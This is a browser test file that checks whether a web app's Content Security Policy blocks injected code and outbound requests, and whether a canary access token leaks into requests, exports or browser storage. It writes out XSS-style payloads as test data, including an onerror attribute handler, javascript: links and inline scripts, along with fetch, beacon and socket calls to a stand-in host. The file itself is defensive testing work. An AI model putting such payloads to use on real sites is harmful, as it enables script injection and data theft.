import { readFile } from "node:fs/promises";
import type { Page } from "@playwright/test";
import { type MockHub, mockHub } from "../src/testing/mock-hub.ts";
import { parquetOf } from "../src/testing/parquet.ts";
import { tinyModel } from "../src/testing/tiny-models.ts";
import { tinyPairs } from "../src/testing/tiny-pairs.ts";
import { expect, test } from "./test.ts";
import { serveTinyModels, serveTinyPairs, withoutModels } from "./tiny-models.ts";

test.beforeEach(async ({ context }) => {
  await serveTinyModels(context);
  await serveTinyPairs(context);
});

const CODE = "document.documentElement.dataset.broken = 'yes'";
const ELSEWHERE = "https://elsewhere.test/taken";

/** What a text that became part of the page would try, with the directive that must stop it. */
const attempts: readonly [tried: string, directive: string][] = [
  ["inline script", "script-src-elem"],
  ["handler in an attribute", "script-src-attr"],
  ["address that is code", "script-src-elem"],
  ["text as a function", "script-src"],
  ["text as a timer", "script-src"],
  ["script of another host", "script-src-elem"],
  ["module of another host", "script-src-elem"],
  ["worker of a data address", "worker-src"],
  ["request", "connect-src"],
  ["beacon", "connect-src"],
  ["socket", "connect-src"],
  ["stream of events", "connect-src"],
  ["picture", "img-src"],
  ["picture of a style", "img-src"],
  ["style sheet", "style-src-elem"],
  ["font", "font-src"],
  ["sound", "media-src"],
  ["frame", "frame-src"],
  ["plug-in", "object-src"],
  ["form", "form-action"],
  ["base of all addresses", "base-uri"],
];

/** Tries one of the attempts in the page. @returns the directive that stopped it first */
function tryIn(page: Page, tried: string): Promise<string> {
  return page.evaluate(
    async ([what, code, elsewhere]) => {
      const violated: string[] = [];
      const listen = (event: SecurityPolicyViolationEvent) => violated.push(event.effectiveDirective);
      document.addEventListener("securitypolicyviolation", listen);
      const add = (html: string) => {
        const place = document.createElement("div");
        place.className = "attempt";
        place.innerHTML = html;
        document.body.append(place);
        return place.firstElementChild as HTMLElement;
      };
      const script = (fields: Partial<HTMLScriptElement>) =>
        document.head.append(Object.assign(document.createElement("script"), { className: "attempt", ...fields }));
      const ways: Record<string, () => unknown> = {
        "inline script": () => script({ textContent: code }),
        "handler in an attribute": () => add(`<img alt="" src="data:," onerror="${code}">`),
        "address that is code": () => add(`<a href="javascript:${code}">here</a>`).click(),
        "text as a function": () => new Function(code)(),
        "text as a timer": () => setTimeout(code),
        "script of another host": () => script({ src: elsewhere }),
        "module of another host": () => import(/* @vite-ignore */ elsewhere),
        "worker of a data address": () => new Worker(`data:text/javascript,${code}`),
        request: () => fetch(elsewhere),
        beacon: () => navigator.sendBeacon(elsewhere, "canary"),
        socket: () => new WebSocket(elsewhere.replace("https", "wss")),
        "stream of events": () => new EventSource(elsewhere),
        picture: () => add(`<img alt="" src="${elsewhere}">`),
        "picture of a style": () => add(`<p style="background: url('${elsewhere}')">seen</p>`),
        "style sheet": () => add(`<link rel="stylesheet" href="${elsewhere}">`),
        font: () => new FontFace("theirs", `url(${elsewhere})`).load(),
        sound: () => add(`<audio src="${elsewhere}" preload="auto"></audio>`),
        frame: () => add(`<iframe title="theirs" src="${elsewhere}"></iframe>`),
        "plug-in": () => add(`<object data="${elsewhere}"></object>`),
        // The form is sent into a frame; sent from the page, it would navigate away.
        form: () => {
          add(`<iframe title="place" name="place"></iframe>`);
          (add(`<form method="post" action="${elsewhere}" target="place"></form>`) as HTMLFormElement).submit();
        },
        "base of all addresses": () => add(`<base href="${elsewhere}">`),
      };
      // In a later task, since the browser allows code that the inspector itself runs.
      await new Promise<void>((resolve) => {
        setTimeout(async () => {
          try {
            await ways[what]?.();
          } catch {
            // Some attempts throw; others are only reported.
          }
          resolve();
        });
      });
      for (let turns = 0; turns < 100 && violated.length === 0; turns++) {
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      document.removeEventListener("securitypolicyviolation", listen);
      for (const element of document.querySelectorAll(".attempt")) element.remove();
      return violated[0] ?? "nothing";
    },
    // A violation is only reported once, so every attempt has its own address.
    [tried, CODE, `${ELSEWHERE}/${crypto.randomUUID()}`] as const,
  );
}

test("on no page can a text become code, or ask a host that nobody chose", async ({ page, context, chosenHosts }) => {
  // The policy stops requests before they are made; only those that get through are recorded here.
  const arrived: string[] = [];
  chosenHosts.add(new URL(ELSEWHERE).origin);
  await context.route(/elsewhere\.test/, (route) => {
    arrived.push(route.request().url());
    return route.fulfill({ body: "", headers: { "access-control-allow-origin": "*" } });
  });
  await withoutModels(page);
  await page.goto("/");
  const links = page.getByRole("navigation", { name: "Pages" }).getByRole("link");
  // The ten pages from Explore to Models.
  await expect(links).toHaveCount(10);
  for (const link of await links.all()) {
    await link.click();
    const name = await link.textContent();
    await expect(page).toHaveTitle(`${name} · ICRM Playground`);
    const stopped: [string, string][] = [];
    for (const [tried] of attempts) stopped.push([tried, await tryIn(page, tried)]);
    expect(stopped, `${name}`).toEqual(attempts);
    await expect(page.locator("html")).not.toHaveAttribute("data-broken");
    await expect(page).toHaveTitle(`${name} · ICRM Playground`);
  }
  expect(arrived).toEqual([]);
});

test("an access token reaches the host it was given for, and nothing that stays or leaves", async ({
  page,
  context,
  chosenHosts,
}) => {
  const token = "hf_CanaryThatSingsNowhere0123456789";
  const wrong = "hf_AnotherCanaryThatSingsNowhere";
  const heard: string[] = [];
  context.on("console", (message) => heard.push(message.text()));
  context.on("request", (request) => {
    heard.push(request.url(), request.postData() ?? "");
    const { authorization, ...others } = request.headers();
    heard.push(JSON.stringify(others));
    // Only the header may carry the token, and only to chosen hosts.
    if (!chosenHosts.has(new URL(request.url()).origin)) heard.push(authorization ?? "");
  });
  const alert = page.getByRole("alert");

  await test.step("a model that asks for it is looked up in vain, then brought in", async () => {
    const hub = await hubWith(chosenHosts, await mockHub("a/model", tinyModel({ seed: 8, valueHead: true })), token);
    await page.goto("/#/models");
    await page.getByLabel("Host").fill(hub.url);
    await page.getByLabel("Model of the hub").fill("a/model");
    await page.getByLabel("Access token").fill(wrong);
    await page.getByRole("button", { name: "Look it up" }).click();
    await expect(alert).toContainText("asks for permission");
    heard.push(await page.content());
    await page.getByLabel("Access token").fill(token);
    await page.getByRole("button", { name: "Look it up" }).click();
    await expect(page.getByTestId("model-facts")).toContainText("llama, 2 layers");
    await page.getByRole("button", { name: "Download" }).click();
    await expect(page.getByTestId("model")).toHaveAttribute("data-complete", "true");
    expect(hub.requests.length).toBeGreaterThan(2);
    await hub.close();
  });

  await test.step("so are data; what leaves as a file has no token", async () => {
    const file = parquetOf(
      tinyPairs(8, 1).map((pair) => ({ ...pair })),
      8,
    );
    const path = "default/train/0000.parquet";
    const hub = await hubWith(chosenHosts, await mockHub("a/data", new Map([[path, file]]), "datasets"), token);
    const about = { dataset: "a/data", config: "default", split: "train", filename: "0000.parquet", size: file.length };
    const url = `${hub.url}/datasets/a/data/resolve/refs%2Fconvert%2Fparquet/${path}`;
    hub.parquet = { parquet_files: [{ ...about, url }], pending: [], failed: [], partial: false };
    await page.getByRole("link", { name: "Data", exact: true }).click();
    await page.getByRole("button", { name: "Hugging Face", exact: true }).click();
    await page.getByLabel("Name of the data set").fill("a/data");
    await page.getByLabel("Host").fill(hub.url);
    await page.getByLabel("Data-set viewer").fill(hub.url);
    await page.getByLabel("Access token").fill(token);
    await page.getByRole("button", { name: "Look it up" }).click();
    await page.getByRole("button", { name: "Look at default, train" }).click();
    await page.getByRole("button", { name: "Import", exact: true }).click();
    await expect(page.getByTestId("account")).toContainText("8 used");
    const download = page.waitForEvent("download");
    await page.getByRole("button", { name: "Export", exact: true }).click();
    await page.getByRole("menuitem", { name: "TRL" }).click();
    heard.push(await readFile(await (await download).path(), "utf8"));
    await hub.close();
  });

  heard.push(await page.content(), page.url(), ...(await kept(page)));
  const all = heard.join("\n");
  // The search covers the places where a model and data are stored.
  for (const present of ["a/model", "a/data", "model.safetensors"]) expect(all).toContain(present);
  for (const secret of [token, wrong]) {
    for (const form of [secret, btoa(secret), encodeURIComponent(btoa(secret)), secret.slice(3)]) {
      expect(all.includes(form), `${form} was found`).toBe(false);
    }
  }
  // The token stays while one goes to other pages, and is gone after the site is left.
  await page.getByRole("link", { name: "Models", exact: true }).click();
  await expect(page.getByLabel("Access token")).toHaveValue(token);
  await page.reload();
  await expect(page.getByLabel("Access token")).toHaveValue("");
});

async function hubWith(chosenHosts: Set<string>, hub: MockHub, token: string): Promise<MockHub> {
  hub.token = token;
  chosenHosts.add(hub.url);
  return hub;
}

/**
 * All that this site stores in the browser, as texts: storages, cookies, databases, files, caches, and the address's
 * state.
 */
function kept(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const finished = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
    const latin = new TextDecoder("latin1");
    const texts = [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage })];
    texts.push(document.cookie, window.name, JSON.stringify(history.state));
    for (const { name } of await indexedDB.databases()) {
      const database = await finished(indexedDB.open(name as string));
      for (const store of database.objectStoreNames) {
        texts.push(JSON.stringify(await finished(database.transaction(store).objectStore(store).getAll())));
      }
      database.close();
    }
    const walk = async (folder: FileSystemDirectoryHandle) => {
      for await (const entry of folder.values()) {
        texts.push(entry.name);
        if (entry.kind === "directory") await walk(entry);
        else texts.push(latin.decode(await (await entry.getFile()).arrayBuffer()));
      }
    };
    await walk(await navigator.storage.getDirectory());
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        const response = await cache.match(request);
        texts.push(request.url, JSON.stringify([...request.headers]), latin.decode(await response?.arrayBuffer()));
      }
    }
    return texts;
  });
}
